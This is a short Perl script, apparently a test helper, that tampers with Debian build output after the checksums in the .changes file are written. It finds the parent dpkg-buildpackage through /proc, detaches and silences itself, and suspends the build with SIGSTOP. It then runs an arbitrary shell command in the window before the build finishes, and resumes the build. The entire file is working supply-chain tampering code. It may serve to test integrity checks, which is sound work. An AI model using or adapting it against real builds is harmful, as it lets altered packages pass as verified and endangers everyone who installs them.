# Tampers with what a build made, after its sums were taken. Started by the build, it stops dpkg-buildpackage while
# dpkg-genchanges runs below it; so it has all the time it wants between the .changes and the end of the build.
# usage: tamper.pl CHANGES COMMAND
use strict;
use warnings;
use POSIX ();

sub line {
    my ($path) = @_;
    open(my $file, "<", $path) or return "";
    local $/;
    return <$file> // "";
}

sub parent {
    my ($pid) = @_;
    return line("/proc/$pid/stat") =~ /\) \S (\d+)/ ? $1 : 0;
}

my ($changes, $command) = @ARGV;
my $builder = getppid();
$builder = parent($builder) until $builder <= 1 or line("/proc/$builder/cmdline") =~ /dpkg-buildpackage\0/;
fork() and exit(0);
POSIX::setsid();
open($_, "+<", "/dev/null") for *STDIN;
open(STDOUT, ">", "/dev/null");
open(STDERR, ">", "/dev/null");

while (1) {
    my @running = grep { line($_) =~ /dpkg-genchanges\0/ } glob("/proc/[0-9]*/cmdline");
    last if @running or -e $changes;
    select(undef, undef, undef, 0.002);
}
kill("STOP", $builder);
select(undef, undef, undef, 0.002) until -s $changes;
select(undef, undef, undef, 0.1) while grep { line($_) =~ /dpkg-genchanges\0/ } glob("/proc/[0-9]*/cmdline");
system("/bin/sh", "-c", $command);
kill("CONT", $builder);
